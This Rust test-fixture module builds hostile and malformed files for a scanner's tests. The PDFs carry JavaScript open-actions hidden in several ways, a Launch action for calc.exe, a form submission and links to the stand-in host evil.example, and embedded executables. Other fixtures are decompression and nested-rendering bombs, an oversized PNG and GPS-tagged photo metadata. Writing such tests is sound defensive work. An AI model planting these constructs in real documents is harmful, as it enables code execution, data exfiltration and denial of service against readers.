//! Documents for tests, made in code: what families scan and download, and what nobody should send. Nothing of the
//! product calls them, so they are not in its program.

use crate::drawings::{draw, small_photo};
use crate::photo::encode;
use crate::specimens::{add_grain, exif_of_a_phone, of_a_phone, png_named_jpg, with_segments};

/// Every document under the name of the file that the browser's tests use.
#[must_use]
pub fn all() -> Vec<(String, Vec<u8>)> {
    let named = [
        ("clean.pdf", clean_pdf()),
        ("script.pdf", script()),
        ("launch.pdf", launch()),
        ("embedded.pdf", embedded()),
        ("encrypted.pdf", encrypted()),
        ("no-pages.pdf", no_pages()),
        ("many-pages.pdf", pages(21)),
        ("truncated.pdf", truncated_pdf()),
        ("twenty-five-mb.pdf", padded_pdf(25_000_000)),
        ("png-named.pdf", png_named_jpg()),
        ("empty.pdf", Vec::new()),
        ("sixty-thousand.png", sixty_thousand_square()),
    ];
    named.into_iter().map(|(name, bytes)| (name.to_owned(), bytes)).collect()
}

/// Two pages as a scanner makes them: a photo with the place it was taken on the first, and words on the second, which
/// lies on its side.
#[must_use]
pub fn clean_pdf() -> Vec<u8> {
    file(&two_pages("", ""))
}

/// The same on paper as small as a stamp, which is drawn in no time.
#[must_use]
pub fn small_pdf() -> Vec<u8> {
    let mut objects = two_pages("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>]");
    for page in [3, 5] {
        let object = String::from_utf8_lossy(&objects[page]).replace("595 842", "59 84");
        objects[page] = object.into_bytes();
    }
    file(&objects)
}

/// So many pages with their number on them.
#[must_use]
pub fn pages(count: usize) -> Vec<u8> {
    let kids: Vec<_> = (0..count).map(|page| format!("{} 0 R", 4 + 2 * page)).collect();
    let mut objects = vec![
        text("<< /Type /Catalog /Pages 2 0 R >>"),
        text(&format!("<< /Type /Pages /Count {count} /Kids [{}] >>", kids.join(" "))),
        text(FONT),
    ];
    for page in 0..count {
        objects.push(page_of(5 + 2 * page, ""));
        objects.push(words(&format!("Page {}", page + 1)));
    }
    file(&objects)
}

/// Pages that nobody finds: the tree has none.
#[must_use]
pub fn no_pages() -> Vec<u8> {
    file(&[text("<< /Type /Catalog /Pages 2 0 R >>"), text("<< /Type /Pages /Count 0 /Kids [] >>")])
}

/// It runs a script when it is opened.
#[must_use]
pub fn script() -> Vec<u8> {
    file(&two_pages("/OpenAction << /S /JavaScript /JS (app.alert\\('hello'\\)) >>", ""))
}

/// Every place in which a script can stand.
#[must_use]
pub fn scripts() -> Vec<(&'static str, Vec<u8>)> {
    let action = "<< /S /JavaScript /JS (x) >>";
    let widget =
        format!("/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E {action} >> >>]");
    vec![
        ("when it is opened", script()),
        (
            "among the names",
            file(&two_pages(&format!("/Names << /JavaScript << /Names [(a) {action}] >> >>"), "")),
        ),
        ("when a page is opened", file(&two_pages("", &format!("/AA << /O {action} >>")))),
        ("at a field", file(&two_pages("", &widget))),
        (
            "behind another step",
            file(&two_pages(&format!("/OpenAction << /S /GoTo /Next [{action}] >>"), "")),
        ),
        ("with a name in other letters", {
            file(&two_pages("/OpenAction << /S /Java#53cript /JS (x) >>", ""))
        }),
        ("in a form of XFA", file(&two_pages("/AcroForm << /XFA [(a) (b)] >>", ""))),
        ("in a stream of objects", in_an_object_stream("<< /S /JavaScript /JS (x) >>")),
        ("behind a table that is wrong", broken_table(script())),
    ]
}

/// It starts a program when it is opened.
#[must_use]
pub fn launch() -> Vec<u8> {
    file(&two_pages("/OpenAction << /S /Launch /F (calc.exe) >>", ""))
}

/// Everything that leaves the document.
#[must_use]
pub fn launches() -> Vec<(&'static str, Vec<u8>)> {
    let link = |action: &str| {
        let link = format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>]");
        file(&two_pages("", &link))
    };
    vec![
        ("a program", launch()),
        ("a program behind a link", link("<< /S /Launch /F (calc.exe) >>")),
        ("another file", link("<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")),
        ("a form that is sent", link("<< /S /SubmitForm /F (http://evil.example/) >>")),
        ("data that is read", link("<< /S /ImportData /F (data.fdf) >>")),
        ("an address by itself", {
            file(&two_pages("/OpenAction << /S /URI /URI (http://evil.example/) >>", ""))
        }),
        ("an address with a page", {
            file(&two_pages("", "/AA << /O << /S /URI /URI (http://evil.example/) >> >>"))
        }),
    ]
}

/// A link that somebody would have to press.
#[must_use]
pub fn with_a_link() -> Vec<u8> {
    let link = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/) >> >>]";
    file(&two_pages("", link))
}

/// It has a file inside.
#[must_use]
pub fn embedded() -> Vec<u8> {
    let names = "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>";
    file(&two_pages(names, ""))
}

/// Every way to carry a file.
#[must_use]
pub fn embeddings() -> Vec<(&'static str, Vec<u8>)> {
    let attachment = "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]";
    let associated = "/AF [<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>]";
    let mut stream = two_pages("", "");
    stream.push(text("<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"));
    vec![
        ("among the names", embedded()),
        ("pinned to a page", file(&two_pages("", attachment))),
        ("belonging to the document", file(&two_pages(associated, ""))),
        ("that nothing leads to", file(&stream)),
    ]
}

/// It asks for a password.
#[must_use]
pub fn encrypted() -> Vec<u8> {
    let bytes = "00".repeat(32);
    let trailer = format!(
        "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{bytes}> /U <{bytes}> >> /ID [<00> <00>]"
    );
    with_trailer(&two_pages("", ""), &trailer)
}

/// The second half did not arrive.
#[must_use]
pub fn truncated_pdf() -> Vec<u8> {
    let mut whole = pages(4);
    whole.truncate(whole.len() / 2);
    whole
}

/// A good PDF with nothing behind it, up to so many bytes.
#[must_use]
pub fn padded_pdf(bytes: usize) -> Vec<u8> {
    let mut padded = clean_pdf();
    padded.resize(bytes.max(padded.len()), b'\n');
    padded
}

/// A PDF whose pages want a Chinese font of the reader's machine.
#[must_use]
pub fn without_its_font() -> Vec<u8> {
    let mut objects = two_pages("", "");
    objects[2] = text(
        "<< /Type /Font /Subtype /Type0 /BaseFont /PMingLiU /Encoding /UniCNS-UCS2-H /DescendantFonts [<<
         /Type /Font /Subtype /CIDFontType2 /BaseFont /PMingLiU
         /CIDSystemInfo << /Registry (Adobe) /Ordering (CNS1) /Supplement 0 >>
         /FontDescriptor << /Type /FontDescriptor /FontName /PMingLiU /Flags 4 /FontBBox [0 0 1000 1000]
         /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >> >>] >>",
    );
    objects[6] = stream("", b"BT /F1 24 Tf 72 600 Td <62365C0D> Tj ET");
    file(&objects)
}

/// A page in which pages stand in pages: eight levels, each drawing the one below ten times.
#[must_use]
pub fn endless() -> Vec<u8> {
    let mut objects = vec![
        text("<< /Type /Catalog /Pages 2 0 R >>"),
        text("<< /Type /Pages /Count 1 /Kids [3 0 R] >>"),
        text(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R
             /Resources << /XObject << /X 5 0 R >> >> >>",
        ),
        stream("", &b"/X Do ".repeat(10)),
    ];
    for level in 6..13 {
        let form = format!(
            "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X {level} 0 R >> >>"
        );
        objects.push(stream(&form, &b"/X Do ".repeat(10)));
    }
    let last = "/Type /XObject /Subtype /Form /BBox [0 0 595 842]";
    objects.push(stream(last, b"0 0 595 842 re f 0 0 m 595 842 l S"));
    file(&objects)
}

/// Fourteen megabytes that become nine hundred when they are read (ISO 32000-1, 7.4.5: 128 zeros in two bytes).
#[must_use]
pub fn bomb() -> Vec<u8> {
    let mut objects = two_pages("", "");
    objects[4] = stream("/Filter /RunLengthDecode", &[0x81, 0].repeat(7_000_000));
    file(&objects)
}

/// A small PNG whose header claims 60,000 × 60,000 pixels.
#[must_use]
pub fn sixty_thousand_square() -> Vec<u8> {
    let edge = 60_000_u32.to_be_bytes();
    let mut png = b"\x89PNG\r\n\x1A\n".to_vec();
    png.extend(chunk(*b"IHDR", &[&edge, edge.as_slice(), &[8, 2, 0, 0, 0]].concat()));
    png.extend(chunk(*b"IDAT", b"\x78\x9C\x03\0\0\0\0\x01"));
    png.extend(chunk(*b"IEND", b""));
    png
}

/// A PNG with the place it was taken, a comment and an XMP packet.
#[must_use]
pub fn png_with_gps() -> Vec<u8> {
    let png = png_named_jpg();
    // Behind the signature and the header.
    let (head, rest) = png.split_at(33.min(png.len()));
    let chunks = [
        chunk(*b"eXIf", &exif_of_a_phone(1)),
        chunk(*b"tEXt", b"Comment\0Grandmother in the garden of Taichung"),
        chunk(*b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<creator>Lin Mei-hua</creator>"),
    ];
    [head, &chunks.concat(), rest].concat()
}

/// A piece of a PNG (ISO/IEC 15948, 5.3).
fn chunk(kind: [u8; 4], content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or(0).to_be_bytes();
    let checked = [kind.as_slice(), content].concat();
    [length.as_slice(), &checked, &crc(&checked).to_be_bytes()].concat()
}

fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| (crc >> 1) ^ (0xEDB8_8320 & (crc & 1).wrapping_neg()))
    })
}

const FONT: &str = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/// Objects 1 to 8: catalog, pages, font, first page, its content, second page, its content, picture.
fn two_pages(catalog: &str, second_page: &str) -> Vec<Vec<u8>> {
    let photo = with_segments(&small_photo(2), &of_a_phone(1));
    vec![
        text(&format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>")),
        text("<< /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >>"),
        text(FONT),
        page_of(5, ""),
        stream("", b"q 400 0 0 300 97 400 cm /P Do Q BT /F1 24 Tf 72 200 Td (Household) Tj ET"),
        page_of(7, &format!("/Rotate 90 {second_page}")),
        words("Page 2"),
        stream(
            "/Type /XObject /Subtype /Image /Width 800 /Height 600 /ColorSpace /DeviceRGB /BitsPerComponent 8
             /Filter /DCTDecode",
            &photo,
        ),
    ]
}

fn page_of(content: usize, more: &str) -> Vec<u8> {
    text(&format!(
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {content} 0 R
         /Resources << /Font << /F1 3 0 R >> /XObject << /P 8 0 R >> >> {more} >>"
    ))
}

fn words(line: &str) -> Vec<u8> {
    stream("", format!("BT /F1 24 Tf 72 700 Td ({line}) Tj ET").as_bytes())
}

fn text(object: &str) -> Vec<u8> {
    object.as_bytes().to_vec()
}

fn stream(dictionary: &str, content: &[u8]) -> Vec<u8> {
    let head = format!("<< {dictionary} /Length {} >>\nstream\n", content.len());
    [head.as_bytes(), content, b"\nendstream"].concat()
}

fn file(objects: &[Vec<u8>]) -> Vec<u8> {
    with_trailer(objects, "")
}

/// Numbers the objects from 1, the first of which is the catalog, and writes where each begins.
fn with_trailer(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(objects) {
        places.push(format!("{:010} 00000 n \n", bytes.len()));
        bytes.extend_from_slice(format!("{number} 0 obj\n").as_bytes());
        bytes.extend_from_slice(object);
        bytes.extend_from_slice(b"\nendobj\n");
    }
    let (begins, size) = (bytes.len(), objects.len() + 1);
    let end = format!(
        "xref\n0 {size}\n0000000000 65535 f \n{}trailer\n<< /Size {size} /Root 1 0 R {trailer} >>
startxref\n{begins}\n%%EOF\n",
        places.concat()
    );
    bytes.extend_from_slice(end.as_bytes());
    bytes
}

/// A PDF whose table points nowhere, as some scanners leave it.
fn broken_table(mut pdf: Vec<u8>) -> Vec<u8> {
    let place = pdf.windows(9).rposition(|part| part == b"startxref").unwrap_or(0);
    pdf.truncate(place);
    pdf.extend_from_slice(b"startxref\n7\n%%EOF\n");
    pdf
}

/// One more object, number 9, that stands inside a stream of objects, as most programs write them.
fn in_an_object_stream(object: &str) -> Vec<u8> {
    let mut objects = two_pages("/OpenAction 10 0 R", "");
    let first = "10 0 ";
    objects.push(stream(
        &format!("/Type /ObjStm /N 1 /First {}", first.len()),
        format!("{first}{object}").as_bytes(),
    ));
    broken_table(file(&objects))
}

/// A JPEG as a phone takes it at its best, some ten megabytes at twelve megapixels.
#[must_use]
pub fn large_photo(width: i32, height: i32) -> Vec<u8> {
    let mut picture = draw(2, width / 4, height / 4, 4);
    add_grain(&mut picture);
    encode(&picture, 100).unwrap_or_default()
}
